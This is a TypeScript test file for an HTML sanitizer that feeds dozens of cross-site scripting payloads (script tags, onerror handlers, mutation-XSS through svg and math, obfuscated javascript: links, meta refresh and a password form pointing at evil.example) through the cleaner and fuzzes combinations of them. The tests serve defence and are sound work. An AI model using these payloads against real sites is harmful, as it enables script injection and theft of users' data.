import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml, picturesOf } from './clean-html.ts'

const isPicture = (src: string) => src === '/api/public_post/picture/7'
const clean = (html: string) => cleanHtml(html, { isPicture })

/** All that may stand in a cleaned text, sign by sign. */
const text = `[^<>]*`
const value = `"[^"<>]*"`
const attribute = String.raw` (?:href=${value}|rel="noopener noreferrer"|src="/api/public_post/picture/7"|alt=${value}|width="\d+"|height="\d+"|start="\d+"|colspan="\d+"|rowspan="\d+")`
const element = `<(?:/?(?:p|h2|h3|h4|strong|em|u|s|ul|ol|li|blockquote|a|table|thead|tbody|tr|th|td)|br|hr|img)(?:${attribute})*(?: /)?>`
const harmless = new RegExp(`^(?:${text}|${element})*$`)

function expectHarmless(source: string): string {
  const out = clean(source)
  expect(out).toMatch(harmless)
  for (const [, href = ''] of out.matchAll(/<a href="([^"]*)"/g)) {
    const address = href.replaceAll('&amp;', '&').replaceAll(/&#?\w+;/g, '?')
    expect(address).not.toMatch(/^[\s\p{Cc}]*(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:/iu)
    expect(address).not.toMatch(/^[\\/]{2}/)
  }
  expect(clean(out)).toBe(out)
  return out
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/public_post/picture/7" onerror="alert(1)" alt="x">',
  '<img src="/api/public_post/picture/7" alt="x&quot; onerror=&quot;alert(1)">',
  '<img src="/api/public_post/picture/7" srcset="https://evil.example/x 2x" alt="x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">',
  '<img src="//evil.example/x.png" alt="x"><img src="https://evil.example/pixel" alt="x">',
  '<svg><script>alert(1)</script></svg><svg onload=alert(1)>x</svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="</textarea><img src=x onerror=alert(1)>"><textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001jAvAsCrIpT\u0009:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a href="https://x.example/" onclick="alert(1)" style="position:fixed;inset:0" target="_top" ping="https://evil.example">x</a>',
  '<style>*{background:url(https://evil.example)}</style><p style="background:url(javascript:alert(1))">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="x">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video><body onload=alert(1)>',
  '<p><!--><img src=x onerror=alert(1)>--></p><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>',
  '<table><td colspan="99999999" rowspan="-1" background="javascript:alert(1)">x</td></table>',
  '<p onmouseover\u000c=alert(1)>x</p><p/onclick=alert(1)>x</p><p\u0000onclick=alert(1)>x',
  '<a href="https://x.example/?a=1&b=2">&lt;script&gt;alert(1)&lt;/script&gt;</a>',
  `${'<ul><li>'.repeat(5000)}x`,
  `${'<div>'.repeat(5000)}x`,
]

describe('text that people write as HTML', () => {
  it.each(hostile.map((source) => [source.slice(0, 60), source]))(
    'of %s nothing that runs stays',
    (_, source) => {
      const out = expectHarmless(source)
      expect(out).not.toMatch(/evil\.example\/(x|pixel)|srcset|<script/i)
    },
  )

  it('keeps headings, lists, tables, links and pictures of ours as they were written', () => {
    const written =
      '<h2>Taxe &amp; impozite</h2><p>Până la <strong>31 martie</strong>:</p><ul><li><p>casă</p></li></ul>' +
      '<table><tbody><tr><th colspan="2">An</th></tr><tr><td>2026</td><td>10%</td></tr></tbody></table>' +
      '<p><a href="https://www.anaf.ro/?a=1&amp;b=2" rel="noopener noreferrer">ANAF</a></p>' +
      '<img src="/api/public_post/picture/7" alt="Primăria" width="800" height="600" />'
    expect(clean(written)).toBe(written)
    expect(picturesOf(written)).toEqual([{ src: '/api/public_post/picture/7', alt: 'Primăria' }])
    expect(clean('<h1>A</h1><div>b <b>c</b></div>')).toBe('<h2>A</h2><p>b <strong>c</strong></p>')
  })

  it('is harmless whatever is put together, and cleaned twice the same', () => {
    const pieces = fc.constantFrom(
      ...hostile.slice(0, -2).flatMap((one) => one.split(/(?=[<"'>])/)),
      ...[
        '<p>',
        '</p>',
        '<b>',
        '<a href="',
        '">',
        '&lt;',
        '&quot;',
        '\u0000',
        '<!--',
        '-->',
        '</',
        '<table>',
      ],
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
        expectHarmless(parts.join(''))
      }),
      { numRuns: 3000 },
    )
  })
})
